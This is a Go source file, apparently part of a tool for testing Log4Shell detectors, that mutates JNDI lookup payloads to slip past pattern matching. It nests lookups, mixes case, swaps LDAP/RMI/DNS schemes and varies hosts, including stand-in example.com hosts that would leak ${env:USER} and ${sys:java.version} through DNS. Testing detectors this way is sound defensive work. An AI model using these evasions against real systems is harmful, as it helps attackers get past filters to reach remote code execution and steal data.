package evasion

import (
	"math/rand/v2"
	"regexp"
	"strings"
)

var lookupClass = []string{"log4shell"}

// lookupMutations keep what Log4j 2 substitutes (its manual, "Lookups" and
// "Property substitution").
var lookupMutations = Suite{
	onPayload("lookup-letter", lookupClass, lookupLetter),
	onPayload("lookup-word", lookupClass, lookupWord),
	onPayload("lookup-case", lookupClass, func(text string, r *rand.Rand) string {
		out, _ := replaceSome(text, lookupName.FindAllStringIndex(text, -1), r, 0.8, func(s string) string { return mixCase(s, r) })
		return out
	}),
	onPayload("lookup-scheme", lookupClass, func(text string, r *rand.Rand) string {
		return lookupScheme.ReplaceAllString(text, pick(r, "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis", "nds")+":")
	}),
	onPayload("lookup-host", lookupClass, func(text string, r *rand.Rand) string {
		host := pick(r, "127.0.0.1#"+name(r)+".example.com", name(r)+".example.com:"+pick(r, "389", "1389", "53", "8080"), "10.2.3.4:1389", "[::1]:389", "${hostName}."+name(r)+".example.com", "${env:USER}."+name(r)+".example.net",
			"${sys:java.version}."+name(r)+".example.org", "167772161", "0x7f000001")
		return lookupHost.ReplaceAllLiteralString(text, "://"+host)
	}),
	onPayload("lookup-prose", lookupClass, func(text string, r *rand.Rand) string {
		if len(text) > 4000 {
			return text
		}
		return pick(r, prose(r, 1+r.IntN(8))+" "+text, text+" "+prose(r, 1+r.IntN(8)), name(r)+text, text+name(r), "${"+name(r)+":-}"+text)
	}),
	onPayload("lookup-bare", lookupClass, func(text string, r *rand.Rand) string {
		return strings.Replace(text, "://", pick(r, ":/", ":", "://"), 1)
	}),
	onPayload("lookup-default", lookupClass, func(text string, r *rand.Rand) string {
		if !strings.HasPrefix(text, "${") || !strings.HasSuffix(text, "}") || strings.Count(text, "${") > 30 {
			return text
		}
		return pick(r, "${env:"+strings.ToUpper(name(r))+":-"+text+"}", "${sys:"+name(r)+":-"+text+"}", "${"+name(r)+":-"+text+"}", "${lower:"+text+"}")
	}),
}

var lookupTop = regexp.MustCompile(`(?i)(jndi|ldaps?|rmi|dns|iiop|corba)`)

// lookupLetter has letters come out of lookups of their own.
func lookupLetter(text string, r *rand.Rand) string {
	if strings.Count(text, "${") > 40 {
		return text
	}
	out, _ := replaceSome(text, lookupTop.FindAllStringIndex(text, -1), r, 0.6, func(s string) string {
		var b strings.Builder
		p := pick(r, 0.3, 1)
		for i := range len(s) {
			if c := s[i : i+1]; chance(r, p) {
				b.WriteString(lookupOf(c, r))
			} else {
				b.WriteString(c)
			}
		}
		return b.String()
	})
	return out
}

func lookupWord(text string, r *rand.Rand) string {
	out, _ := replaceSome(text, lookupTop.FindAllStringIndex(text, -1), r, 0.4, func(s string) string { return lookupOf(s, r) })
	return out
}

// lookupOf is a lookup that gives s.
func lookupOf(s string, r *rand.Rand) string {
	return pick(r, "${lower:"+s+"}", "${::-"+s+"}", "${env:"+strings.ToUpper(name(r))+":-"+s+"}", "${sys:"+name(r)+":-"+s+"}", "${"+name(r)+":-"+s+"}", "${date:'"+s+"'}", "${lower:"+strings.ToUpper(s)+"}", "${:-"+s+"}",
		"${"+name(r)+":"+name(r)+":-"+s+"}", "${main:"+name(r)+":-"+s+"}", "${lower:${lower:"+s+"}}")
}

var (
	lookupName   = regexp.MustCompile(`(?i)\b(jndi|lower|upper|env|sys|date|java|main)\b:`)
	lookupScheme = regexp.MustCompile(`(?i)\b(ldaps?|rmi|dns|iiop|corba|nis|nds):`)
	lookupHost   = regexp.MustCompile(`://?[^/}$]{2,}`)
)
